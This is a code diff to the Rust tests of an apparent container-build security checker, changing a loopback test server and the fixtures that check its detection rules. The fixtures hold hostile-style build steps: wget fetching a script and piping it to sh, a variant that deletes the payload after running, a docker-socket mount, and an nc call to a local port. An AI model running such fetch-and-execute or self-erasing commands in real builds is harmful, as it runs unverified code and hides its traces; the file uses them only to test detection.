@@ -70,25 +70,28 @@ fn inside() {
     }
 }
 
-/// A server on loopback: to who speaks HTTP it gives a script, to others the script alone.
-fn server() -> u16 {
+/// A server on loopback, which gives everybody a script: in an answer of HTTP, or as it is.
+fn server(http: bool) -> u16 {
     let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
     let port = listener.local_addr().expect("an address").port();
     std::thread::spawn(move || {
         for stream in listener.incoming() {
             let Ok(mut stream) = stream else { continue };
-            std::thread::spawn(move || {
-                let wait = std::time::Duration::from_millis(300);
-                let _ = stream.set_read_timeout(Some(wait));
-                let mut asked = [0u8; 1024];
-                let read = stream.read(&mut asked).unwrap_or(0);
-                let script = "#!/bin/sh\n/bin/echo from elsewhere\n";
-                let head = match asked[..read].starts_with(b"GET") {
-                    true => format!("HTTP/1.0 200 OK\r\nContent-Length: {}\r\n\r\n", script.len()),
-                    false => String::new(),
-                };
-                let _ = stream.write_all(format!("{head}{script}").as_bytes());
-            });
+            let script = "#!/bin/sh\n/bin/echo from elsewhere\n";
+            if !http {
+                let _ = stream.write_all(script.as_bytes());
+                continue;
+            }
+            let mut asked = Vec::new();
+            let mut piece = [0u8; 1024];
+            while !asked.ends_with(b"\r\n\r\n") {
+                match stream.read(&mut piece) {
+                    Ok(read) if read > 0 => asked.extend_from_slice(&piece[..read]),
+                    _ => break,
+                }
+            }
+            let head = format!("HTTP/1.0 200 OK\r\nContent-Length: {}\r\n\r\n", script.len());
+            let _ = stream.write_all(format!("{head}{script}").as_bytes());
         }
     });
     port
@@ -152,7 +155,7 @@ const RULES: &[&str] = &[
 
 #[test]
 fn each_rule_finds_its_step_whatever_the_text_says() {
-    let port = server();
+    let (port, web) = (server(false), server(true));
     let hostile_step = |what: &str| {
         format!(
             "--mount=source=hostile,target=/hostile {WHAT}={what} /hostile --exact \
@@ -207,16 +210,16 @@ fn each_rule_finds_its_step_whatever_the_text_says() {
         (hostile_step("docker"), &["docker-socket"]),
         ("for name in wget apk sudo; do ln -s busybox /bin/$name; done".into(), &[]),
         (
-            hidden(&format!("/bin/wget -q http://127.0.0.1:{port}/p -O /p; /bin/sh /p")),
+            hidden(&format!("/bin/wget -q http://127.0.0.1:{web}/p -O /p; /bin/sh /p")),
             &["download-executed-unverified"],
         ),
         (
-            hidden(&format!("/bin/wget -q http://127.0.0.1:{port}/p -O /q; /bin/sh /q; rm /q")),
+            hidden(&format!("/bin/wget -q http://127.0.0.1:{web}/p -O /q; /bin/sh /q; rm /q")),
             &["download-executed-unverified", "self-erasing-payload"],
         ),
         (
             hidden(&format!(
-                "/bin/wget -q http://127.0.0.1:{port}/p -O /r; /bin/sha256sum /r | /bin/grep -q . && \
+                "/bin/wget -q http://127.0.0.1:{web}/p -O /r; /bin/sha256sum /r | /bin/grep -q . && \
              /bin/sh /r; rm /r"
             )),
             &[],
@@ -361,7 +364,7 @@ fn steps_that_nobody_watched_are_skipped_and_an_error_where_it_is_required() {
 #[test]
 fn the_stage_that_ships_has_no_network_where_that_is_denied() {
     let place = Place::new(Who::usual());
-    let port = server();
+    let port = server(false);
     let ask = format!("nc -w 2 127.0.0.1 {port} > /answer < /dev/null || true");
     let text = format!(
         "FROM busybox AS build\nRUN {ask}\nFROM busybox\nCOPY --from=build /answer /built\n\
